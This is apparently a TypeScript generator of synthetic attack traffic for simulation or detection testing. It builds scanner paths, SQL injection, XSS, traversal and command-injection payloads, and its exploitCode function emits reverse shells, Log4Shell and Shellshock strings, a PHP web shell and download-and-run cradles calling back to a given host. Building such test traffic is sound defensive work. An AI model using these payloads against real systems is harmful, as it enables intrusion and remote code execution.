import { ALPHABETS, invented, randomText } from '../names.ts';
import type { Random } from '../random.ts';

const DICTIONARY = ['admin', 'backup', 'login', 'test', 'old', 'dev', 'api', 'config', 'phpmyadmin', 'wp-admin', 'wp-content', 'uploads', 'images', 'cgi-bin', 'server-status', 'manager/html', '.git/HEAD', '.env', '.htaccess', 'robots.txt', 'index.php.bak', 'web.config', 'console', 'solr/admin', 'actuator/health', 'shell.php', 'phpinfo.php', 'xmlrpc.php', 'install.php', 'db.sql', 'dump.sql', 'id_rsa', 'owa', 'autodiscover', 'struts2-showcase', 'jmx-console', 'webdav', '.svn/entries', 'cgi-bin/test.cgi', 'HNAP1', 'boaform/admin/formLogin', 'vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'] as const; // prettier-ignore

const PARAMETERS = [
  'id',
  'page',
  'file',
  'q',
  'cat',
  'user',
  'item',
  'url',
  'name',
  'search',
] as const;

/** A path from a dirbuster-like list, or something made of it. */
export function guessedPath(random: Random): string {
  const word = random.chance(0.5) ? random.pick(DICTIONARY) : invented(random);
  return `/${word}${random.pick(['', '', '/', '.php', '.bak', '.txt', '.zip', '.asp', '.html'])}`;
}

export type InjectionKind = 'sql' | 'xss' | 'traversal' | 'command';

/** A parameter with an attack in it, percent-encoded as tools do, or raw as people do. */
export function injectedUri(random: Random, path: string, kind: InjectionKind): string {
  const payload = attack(random, kind);
  const encoded = random.chance(0.7) ? encodeURIComponent(payload) : payload.replaceAll(' ', '+');
  return `${path}?${random.pick(PARAMETERS)}=${encoded}`;
}

function attack(random: Random, kind: InjectionKind): string {
  const n = random.integer(1, 9999);
  const mark = randomText(random, ALPHABETS.letters, 5);
  switch (kind) {
    case 'sql':
      return random.pick([
        `${n}' OR '1'='1`,
        `${n}' AND ${n}=${n} AND '${mark}'='${mark}`,
        `-${n} UNION ALL SELECT NULL,NULL,CONCAT(0x71,user(),0x71),NULL-- -`,
        `${n} AND SLEEP(5)`,
        `${n}'; DROP TABLE users--`,
        `${n} AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7171,(SELECT (ELT(${n}=${n},1))),0x71,0x78))s), ${n}, ${n})))`,
        `1' ORDER BY ${random.integer(1, 20)}-- ${mark}`,
      ]);
    case 'xss':
      return random.pick([
        `<script>alert(${n})</script>`,
        `"><img src=x onerror=alert('${mark}')>`,
        `javascript:alert(document.cookie)//${mark}`,
        `<svg/onload=confirm(${n})>`,
      ]);
    case 'traversal':
      return `${'../'.repeat(random.integer(3, 9))}${random.pick(['etc/passwd', 'etc/shadow', 'windows/win.ini', 'proc/self/environ'])}${random.pick(['', '%00', '%00.html'])}`; // prettier-ignore
    case 'command':
      return random.pick([
        `;cat /etc/passwd`,
        `|id`,
        '`wget http://203.0.113.7/x.sh -O- | sh`',
        `\${jndi:ldap://198.51.100.9:1389/${mark}}`,
        `;curl 203.0.113.7/${mark}|sh`,
        '${@print(md5(1))}',
      ]);
  }
}

export const SCANNER_AGENTS = [
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'DirBuster-1.0-RC1 (http://www.owasp.org)',
  'gobuster/3.5', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', 'Nuclei - Open-source project', 'masscan/1.3', 'Wfuzz/2.4',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/96.0', 'feroxbuster/2.7.1', 'python-requests/2.28.1',
] as const; // prettier-ignore

/** Code that a hole in a service runs: it calls the attacker back, or shows that it ran. */
export function exploitCode(random: Random, ownAddress: string, port: number): string {
  const mark = randomText(random, ALPHABETS.letters, random.integer(4, 9));
  const home = ownAddress.includes(':') ? `[${ownAddress}]` : ownAddress;
  return random.pick([
    `\${jndi:${random.pick(['ldap', 'rmi', 'dns'])}://${home}:${port}/${mark}}`,
    `bash -i >& /dev/tcp/${home}/${port} 0>&1`,
    `%{(#_='multipart/form-data').(#cmd='${mark}').(#p=new java.lang.ProcessBuilder('sh','-c',#cmd)).(#p.start())}`,
    `() { :;}; /bin/bash -c "wget http://${home}:${port}/${mark}"`,
    `;nc ${home} ${port} -e /bin/sh`,
    `<?php system($_GET["${mark}"]); ?>`,
    `{{''.__class__.__mro__[1].__subclasses__()}}${mark}`,
    `$(curl http://${home}:${port}/${mark}|sh)`,
    `class.module.classLoader.resources.context.parent.pipeline.first.pattern=${mark}`,
    `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${home}:${port}/${mark}')"`,
  ]);
}
